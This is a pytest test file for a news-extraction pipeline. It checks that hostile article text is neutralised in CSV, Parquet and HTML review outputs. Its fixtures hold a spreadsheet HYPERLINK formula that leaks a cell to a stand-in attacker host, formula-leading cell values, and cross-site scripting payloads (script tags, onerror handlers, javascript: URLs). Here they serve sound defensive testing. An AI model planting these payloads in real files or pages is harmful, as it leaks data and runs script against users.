"""Hostile article text in outputs: no spreadsheet cell runs as a formula, no page runs a script
(neither one built with the escaping helpers nor the review pages of `pipeline review`)."""

from __future__ import annotations

import csv
import json
from html.parser import HTMLParser
from importlib import resources

import pandas as pd
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.run import extract_folder
from pipeline.safe import csv_cell, html_text, html_url
from pipeline.schema import TABLES

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Отчёт")'
HOSTILE = (
    "<script>alert('x')</script> Министры Казахстана и Узбекистана подписали соглашение в Ташкенте "
    '2 июня 2025 года. <img src=x onerror="alert(1)"> <a href="javascript:alert(2)">подробнее</a>'
)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    folder = tmp_path_factory.mktemp("in")
    (folder / "feed.jsonl").write_text(
        json.dumps(
            {"id": "=1+1", "title": TITLE, "text": "@SUM(A1:A9) " + HOSTILE, "url": "javascript:alert(3)"}
        )
        + "\n"
        + json.dumps(
            {"id": "-2", "title": "+7 (727) 555", "text": "-" + HOSTILE, "url": "https://example.org/a"}
        ),
        encoding="utf-8",
    )
    (folder / "script.txt").write_text(HOSTILE, encoding="utf-8")
    out = tmp_path_factory.mktemp("out")
    summary = extract_folder(folder, out, workers=1)
    assert summary.statuses["ok"] == 3
    return out


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("+7 727", "'+7 727"), ("-2", "'-2"), ("@SUM", "'@SUM"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'), ("-Минус", "'-Минус"), ("a=b", "a=b"),
     ("Бишкек = столица", "Бишкек = столица"), (-74.0, -74.0), (3, 3), (None, ""), (["=a", "b"], "'=a | b"),
     (["loc-1", None, "org-2"], "loc-1 |  | org-2"), ("Министр", "Министр")],
)  # fmt: skip
def test_csv_cells(value, cell):
    """The one guard of every CSV cell: no formula, lists joined, no literal None in a list."""
    assert csv_cell(value) == cell


def test_no_text_cell_of_any_csv_begins_a_formula(hostile_run):
    for name, table in TABLES.items():
        with open(hostile_run / f"{name}.csv", encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f))
        assert rows[0] == table.columns
        texts = [
            i for i, f in enumerate(table.fields) if f.type in ("string", "list")
        ]  # numbers may be negative
        for row in rows[1:]:
            for i in texts:
                assert not row[i].startswith(("=", "+", "-", "@", "\t", "\r")), (
                    name,
                    table.columns[i],
                    row[i],
                )
    articles = pd.read_parquet(hostile_run / "articles.parquet").set_index("record")
    assert articles.loc["=1+1", "title"] == TITLE  # Parquet keeps the value as it is


class _Page(HTMLParser):
    """What a browser would run: script elements, event-handler attributes, script URLs."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts, self.handlers, self.script_urls, self.text = 0, [], [], []
        self.in_script, self.script_texts = False, []

    def handle_starttag(self, tag, attrs):
        self.scripts += tag == "script"
        self.in_script = tag == "script"
        if self.in_script:
            self.script_texts.append("")
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.script_urls += [
            (tag, v) for _, v in attrs if v and v.strip().lower().startswith(("javascript:", "data:"))
        ]

    def handle_endtag(self, tag):
        self.in_script = self.in_script and tag != "script"

    def handle_data(self, data):
        if self.in_script:
            self.script_texts[-1] += data
        else:
            self.text.append(data)


def test_article_text_in_a_page_renders_as_text(hostile_run):
    """A page built from the tables with the escaping helpers, as any HTML output must be."""
    articles = pd.read_parquet(hostile_run / "articles.parquet")
    texts = pd.read_parquet(hostile_run / "texts.parquet").set_index("article_id")
    urls = ["javascript:alert(3)", "https://example.org/a", " JavaScript:alert(4)", "data:text/html,<script>"]
    body = []
    for article in articles.itertuples():
        body.append(f'<article title="{html_text(article.title)}"><h1>{html_text(article.title)}</h1>')
        body.append(f"<p>{html_text(texts.loc[article.article_id, 'text'])}</p></article>")
    for url in urls:
        href = html_url(url)
        body.append(f'<a href="{href}">link</a>' if href else f"<span>{html_text(url)}</span>")
    page = _Page()
    page.feed("<html><body>" + "".join(body) + "</body></html>")
    assert page.scripts == 0 and page.handlers == [] and page.script_urls == []
    shown = "".join(page.text)
    assert (
        "<script>alert('x')</script>" in shown
        and 'onerror="alert(1)"' in shown
        and "javascript:alert(2)" in shown
    )


def test_review_pages_of_hostile_articles_run_nothing(hostile_run):
    """`pipeline review` on the same tables: article text, titles, record ids and URLs are shown as
    text on every page; the only script is the pipeline's own filter script of the index, no element
    has an event handler, and the only data: URL is the empty favicon."""
    result = CliRunner().invoke(app, ["review", str(hostile_run)])
    assert result.exit_code == 0, result.output
    own_script = (
        resources.files("pipeline.review").joinpath("static", "review.js").read_text(encoding="utf-8")
    )
    pages = sorted((hostile_run / "review").rglob("*.html"))
    assert len(pages) == 3 + 3  # the three articles, the index, the timeline and the map
    shown_everywhere = []
    for path in pages:
        page = _Page()
        page.feed(path.read_text(encoding="utf-8"))
        expected = [own_script] if path.name == "index.html" else []
        assert [text.strip() for text in page.script_texts] == [t.strip() for t in expected], path.name
        assert page.handlers == [], path.name
        assert set(page.script_urls) <= {("link", "data:,")}, path.name
        shown_everywhere.append("".join(page.text))
    shown = "".join(shown_everywhere)
    for text in (
        "<script>alert('x')</script>",
        'onerror="alert(1)"',
        '<a href="javascript:alert(2)">',
        TITLE,
    ):
        assert text in shown, text
